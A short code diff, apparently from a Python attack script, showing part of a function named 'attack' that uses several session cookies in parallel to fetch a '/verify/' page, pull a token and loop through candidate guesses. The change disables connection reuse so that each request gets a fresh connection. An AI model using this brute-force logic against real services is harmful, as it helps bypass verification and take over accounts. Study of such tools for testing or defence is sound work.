@@ -140,7 +140,9 @@ def attack(address: str, cookies: list[str], tries: list[Try], parallel: int) ->
 
     def work(part: list[Try], cookie: str) -> list[Answer]:
         found = []
-        with httpx.Client(base_url=address, timeout=30, cookies={"sessionid": cookie}) as client:
+        # A connection of its own for each request: one that is kept may be closed by the server as the next is sent.
+        each_its_own = httpx.Limits(max_keepalive_connections=0)
+        with httpx.Client(base_url=address, timeout=30, cookies={"sessionid": cookie}, limits=each_its_own) as client:
             page = client.get("/verify/").text
             token = _TOKEN.search(page)
             for one in part:
